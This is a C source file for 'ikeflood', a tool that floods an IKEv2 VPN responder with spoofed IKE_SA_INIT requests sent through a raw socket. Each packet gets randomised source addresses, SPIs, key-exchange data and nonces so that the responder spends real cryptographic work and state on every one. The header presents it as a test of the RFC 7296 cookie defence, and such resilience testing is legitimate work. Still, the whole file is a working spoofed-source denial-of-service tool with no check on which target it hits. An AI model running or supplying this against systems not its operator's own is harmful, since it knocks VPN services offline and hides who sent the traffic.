/*
 * ikeflood: a flood of spoofed IKE_SA_INIT requests, to see how a
 * road-warrior responder holds up. RFC 7296 §2.6 is the defence under
 * test: a responder with many half-open SAs answers new requests with a
 * COOKIE, which costs it no state and a spoofing sender never sees.
 *
 *   ikeflood --dst ADDR [--port 500] --src-net NET/LEN [--rate PPS]
 *            [--seconds S] [--ifname DEV]
 *
 * Every datagram is a realistic request, so that the responder does its
 * real work on each (a key pair, a shared secret, an SA slot): one
 * proposal ENCR_AES_GCM_16 (256-bit key), PRF_HMAC_SHA2_256, group 31
 * (Curve25519); KE with 32 random bytes; a 32-byte random Nonce;
 * NAT_DETECTION_SOURCE_IP and _DESTINATION_IP with 20 random bytes each.
 * The message is built once with ike/payload.h's builders; per datagram
 * the SPIi, the KE data, the nonce, the NAT detection hashes, the source
 * address (random in --src-net, never its network or broadcast address)
 * and the source port (random, 1024..65535) are replaced.
 *
 * A raw IPv4 socket (IPPROTO_RAW, so IP_HDRINCL) sends whole packets in
 * batches of BATCH with sendmmsg(). The IPv4 header checksum and the UDP
 * checksum (RFC 768, over the pseudo-header) are computed for every
 * datagram. The randomness is xoshiro256** seeded from getrandom():
 * unpredictable enough for a flood, and far cheaper than a CSPRNG.
 *
 * --rate 0 (the default) sends as fast as the socket takes them; a rate
 * paces batches against CLOCK_MONOTONIC. --seconds (default 2) bounds
 * the run. At the end one line on stdout:
 *
 *   sent=N seconds=S rate_pps=R
 *
 * Responses are not counted: they go to the spoofed sources. Needs
 * CAP_NET_RAW. Exit status 0, 1 on a send error, 2 on bad usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <math.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "ike/payload.h"

#define BATCH   64
#define PKT_MAX 512

/* What changes per datagram: offsets into the UDP payload (the IKE
 * message) of the template. */
struct layout {
	size_t len; /* IKE message */
	size_t spi_off, ke_off, ke_len, nonce_off, nonce_len, natd_off[2];
};

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

/* xoshiro256** (Blackman, Vigna) */
static uint64_t rs[4];

static uint64_t rotl(uint64_t x, int k)
{
	return (x << k) | (x >> (64 - k));
}

static uint64_t rnd64(void)
{
	uint64_t r = rotl(rs[1] * 5, 7) * 9, t = rs[1] << 17;

	rs[2] ^= rs[0];
	rs[3] ^= rs[1];
	rs[1] ^= rs[2];
	rs[0] ^= rs[3];
	rs[2] ^= t;
	rs[3] = rotl(rs[3], 45);
	return r;
}

static void rnd_fill(uint8_t *p, size_t len)
{
	while (len >= 8) {
		uint64_t v = rnd64();

		memcpy(p, &v, 8);
		p += 8;
		len -= 8;
	}
	if (len) {
		uint64_t v = rnd64();

		memcpy(p, &v, len);
	}
}

/* RFC 1071 one's complement sum, not yet folded. */
static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t len)
{
	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/*
 * The IKE_SA_INIT request, built by ike_build_*; the layout of what varies
 * per datagram is read back by parsing the result (the parser's pointers
 * point into buf), so no offset is computed by hand.
 */
static int build_template(uint8_t *buf, size_t cap, struct layout *l)
{
	static struct ike_sa_pl sa;
	static struct ike_msg m;
	struct ike_hdr h = {0};
	struct ike_build b;
	struct ike_ke ke = {.group = IKE_DH_CURVE25519};
	struct ike_notify nd = {0};
	uint8_t kd[32] = {0}, nonce[32] = {0}, natd[20] = {0};
	struct ike_proposal *p = &sa.p[0];
	int n;

	sa.n_proposals = 1;
	p->num = 1;
	p->proto = IKE_PROTO_IKE;
	p->n_transforms = 3;
	p->t[0] = (struct ike_transform){.type = IKE_TRANS_ENCR, .id = IKE_ENCR_AES_GCM_16,
	                                 .key_bits = 256};
	p->t[1] = (struct ike_transform){.type = IKE_TRANS_PRF, .id = IKE_PRF_HMAC_SHA2_256};
	p->t[2] = (struct ike_transform){.type = IKE_TRANS_DH, .id = IKE_DH_CURVE25519};
	ke.data = kd;
	ke.len = sizeof(kd);
	h.spi_i = 1; /* replaced per datagram */
	h.major = IKE_MAJOR_VERSION;
	h.minor = IKE_MINOR_VERSION;
	h.exchange = IKE_SA_INIT;
	h.flags = IKE_FLAG_I;
	ike_build_init(&b, buf, cap, &h);
	ike_build_sa(&b, &sa);
	ike_build_ke(&b, &ke);
	ike_build_nonce(&b, nonce, sizeof(nonce));
	nd.data = natd;
	nd.len = sizeof(natd);
	nd.type = IKE_N_NAT_DETECTION_SOURCE_IP;
	ike_build_notify(&b, &nd);
	nd.type = IKE_N_NAT_DETECTION_DESTINATION_IP;
	ike_build_notify(&b, &nd);
	n = ike_build_finish(&b, NULL);
	if (n < 0)
		return n;

	memset(&m, 0, sizeof(m));
	if (ike_hdr_parse(&m.hdr, buf, (size_t)n) < 0 ||
	    ike_chain_parse(&m, m.hdr.next_payload, buf + IKE_HDR_LEN, (size_t)n - IKE_HDR_LEN,
	                    IKE_HDR_LEN, false) < 0 ||
	    m.n_notify != 2)
		return IKE_ERR_INVAL;
	l->len = (size_t)n;
	l->spi_off = 0;
	l->ke_off = (size_t)(m.ke.data - buf);
	l->ke_len = m.ke.len;
	l->nonce_off = (size_t)(m.nonce.data - buf);
	l->nonce_len = m.nonce.len;
	for (int i = 0; i < 2; i++)
		l->natd_off[i] = (size_t)(m.notify[i].data - buf);
	return 0;
}

/* A whole decimal number in [lo, hi]; 0, or -1 with a message. */
static int parse_uint(const char *opt, const char *s, unsigned long lo, unsigned long hi,
                      unsigned long *out)
{
	char *end;
	unsigned long v;

	errno = 0;
	v = strtoul(s, &end, 10);
	if (s[0] < '0' || s[0] > '9' || *end || errno || v < lo || v > hi) {
		fprintf(stderr, "ikeflood: --%s: a number from %lu to %lu, not '%s'\n", opt, lo, hi,
		        s);
		return -1;
	}
	*out = v;
	return 0;
}

/* A finite decimal number in [lo, hi]; 0, or -1 with a message. */
static int parse_real(const char *opt, const char *s, double lo, double hi, double *out)
{
	char *end;
	double v;

	errno = 0;
	v = strtod(s, &end);
	if (end == s || *end || errno || !isfinite(v) || v < lo || v > hi) {
		fprintf(stderr, "ikeflood: --%s: a number from %g to %g, not '%s'\n", opt, lo, hi, s);
		return -1;
	}
	*out = v;
	return 0;
}

/* "A.B.C.D/LEN", LEN 8..30 (host bits are cleared). */
static int parse_net(const char *s, uint32_t *base, unsigned *bits)
{
	char tmp[64], *slash;
	struct in_addr a;
	unsigned long b;

	if (strlen(s) >= sizeof(tmp))
		return -1;
	snprintf(tmp, sizeof(tmp), "%s", s);
	slash = strchr(tmp, '/');
	if (!slash)
		return -1;
	*slash = '\0';
	if (parse_uint("src-net", slash + 1, 8, 30, &b) < 0 || inet_pton(AF_INET, tmp, &a) != 1)
		return -1;
	*bits = (unsigned)b;
	*base = ntohl(a.s_addr) & ~((1u << (32 - b)) - 1);
	return 0;
}

static void usage(void)
{
	fprintf(stderr, "usage: ikeflood --dst ADDR [--port 500] --src-net NET/LEN [--rate PPS]\n"
	                "                [--seconds S] [--ifname DEV]\n");
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
	    {"dst", required_argument, NULL, 'd'},     {"port", required_argument, NULL, 'p'},
	    {"src-net", required_argument, NULL, 'n'}, {"rate", required_argument, NULL, 'r'},
	    {"seconds", required_argument, NULL, 's'}, {"ifname", required_argument, NULL, 'i'},
	    {NULL, 0, NULL, 0},
	};
	static uint8_t pkts[BATCH][PKT_MAX];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in dst = {.sin_family = AF_INET};
	const char *dst_s = NULL, *net_s = NULL, *ifname = NULL;
	unsigned port = 500, bits = 0;
	unsigned long v;
	uint32_t net = 0, hosts;
	double rate = 0, seconds = 2;
	struct layout l;
	uint8_t ike[PKT_MAX - 28];
	uint64_t sent = 0, t0, t_end, t;
	size_t plen;
	int fd, opt, status = 0;

	while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (opt) {
		case 'd':
			dst_s = optarg;
			break;
		case 'p':
			if (parse_uint("port", optarg, 1, 65535, &v) < 0)
				return 2;
			port = (unsigned)v;
			break;
		case 'n':
			net_s = optarg;
			break;
		case 'r':
			/* 0: as fast as the socket takes them */
			if (parse_real("rate", optarg, 0, 1e9, &rate) < 0)
				return 2;
			break;
		case 's':
			/* a day at most: the end stays far inside uint64_t ns */
			if (parse_real("seconds", optarg, 1e-3, 86400, &seconds) < 0)
				return 2;
			break;
		case 'i':
			if (strlen(optarg) == 0 || strlen(optarg) >= IFNAMSIZ) {
				fprintf(stderr, "ikeflood: --ifname: 1 to %d characters\n",
				        IFNAMSIZ - 1);
				return 2;
			}
			ifname = optarg;
			break;
		default:
			usage();
			return 2;
		}
	}
	if (optind < argc || !dst_s || !net_s || inet_pton(AF_INET, dst_s, &dst.sin_addr) != 1 ||
	    parse_net(net_s, &net, &bits) < 0) {
		usage();
		return 2;
	}
	hosts = (1u << (32 - bits)) - 2; /* without network and broadcast */
	if (getrandom(rs, sizeof(rs), 0) != sizeof(rs)) {
		perror("ikeflood: getrandom");
		return 1;
	}
	if (build_template(ike, sizeof(ike), &l) < 0) {
		fprintf(stderr, "ikeflood: could not build the IKE_SA_INIT request\n");
		return 1;
	}
	plen = 20 + 8 + l.len;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("ikeflood: raw socket (needs CAP_NET_RAW)");
		return 1;
	}
	if (ifname &&
	    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, ifname, (socklen_t)strlen(ifname)) < 0) {
		perror("ikeflood: SO_BINDTODEVICE");
		return 1;
	}

	/* The parts of every packet that never change. */
	for (int i = 0; i < BATCH; i++) {
		uint8_t *ip = pkts[i], *udp = ip + 20;

		memset(ip, 0, 28);
		ip[0] = 0x45;
		ip[2] = (uint8_t)(plen >> 8);
		ip[3] = (uint8_t)plen;
		ip[6] = 0x40; /* DF */
		ip[8] = 64;
		ip[9] = IPPROTO_UDP;
		memcpy(ip + 16, &dst.sin_addr, 4);
		udp[2] = (uint8_t)(port >> 8);
		udp[3] = (uint8_t)port;
		udp[4] = (uint8_t)((plen - 20) >> 8);
		udp[5] = (uint8_t)(plen - 20);
		memcpy(udp + 8, ike, l.len);
		iov[i].iov_base = ip;
		iov[i].iov_len = plen;
		memset(&msgs[i], 0, sizeof(msgs[i]));
		msgs[i].msg_hdr.msg_name = &dst;
		msgs[i].msg_hdr.msg_namelen = sizeof(dst);
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}

	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);
	t0 = now_ns();
	t_end = t0 + (uint64_t)(seconds * 1e9);
	while (!stop && (t = now_ns()) < t_end) {
		unsigned n = BATCH, done = 0;

		if (rate > 0) {
			uint64_t due = (uint64_t)((double)(t - t0) * rate / 1e9) + 1;

			if (due <= sent) {
				struct timespec ts = {0, 200000}; /* 0.2 ms */

				nanosleep(&ts, NULL);
				continue;
			}
			if (due - sent < n)
				n = (unsigned)(due - sent);
		}
		for (unsigned i = 0; i < n; i++) {
			uint8_t *ip = pkts[i], *udp = ip + 20, *m = udp + 8;
			uint32_t src = htonl(net + 1 + (uint32_t)(rnd64() % hosts)), sum;
			uint16_t sport = (uint16_t)(1024 + rnd64() % (65536 - 1024)), c;

			ip[4] = (uint8_t)((sent + i) >> 8); /* IP ID */
			ip[5] = (uint8_t)(sent + i);
			memcpy(ip + 12, &src, 4);
			ip[10] = ip[11] = 0;
			c = csum_fold(csum_add(0, ip, 20));
			ip[10] = (uint8_t)(c >> 8);
			ip[11] = (uint8_t)c;

			rnd_fill(m + l.spi_off, 8); /* a fresh SPIi, never 0 */
			m[l.spi_off] |= 0x80;
			rnd_fill(m + l.ke_off, l.ke_len);
			rnd_fill(m + l.nonce_off, l.nonce_len);
			rnd_fill(m + l.natd_off[0], 20);
			rnd_fill(m + l.natd_off[1], 20);

			udp[0] = (uint8_t)(sport >> 8);
			udp[1] = (uint8_t)sport;
			udp[6] = udp[7] = 0;
			/* pseudo-header: addresses, protocol, UDP length */
			sum = csum_add(0, ip + 12, 8);
			sum += IPPROTO_UDP + (uint32_t)(plen - 20);
			c = csum_fold(csum_add(sum, udp, plen - 20));
			if (c == 0)
				c = 0xffff; /* RFC 768: 0 would mean "no checksum" */
			udp[6] = (uint8_t)(c >> 8);
			udp[7] = (uint8_t)c;
		}
		while (done < n) {
			int r = sendmmsg(fd, msgs + done, n - done, 0);

			if (r < 0) {
				if (errno == EINTR)
					break;
				if (errno == ENOBUFS || errno == EAGAIN) {
					/* the device queue is full: let it drain */
					struct timespec ts = {0, 50000};

					nanosleep(&ts, NULL);
					continue;
				}
				perror("ikeflood: sendmmsg");
				status = 1;
				stop = 1;
				break;
			}
			done += (unsigned)r;
		}
		sent += done;
	}
	t = now_ns();
	close(fd);
	{
		double s = (double)(t - t0) / 1e9;

		printf("sent=%llu seconds=%.2f rate_pps=%.0f\n", (unsigned long long)sent, s,
		       s > 0 ? (double)sent / s : 0.0);
	}
	return status;
}
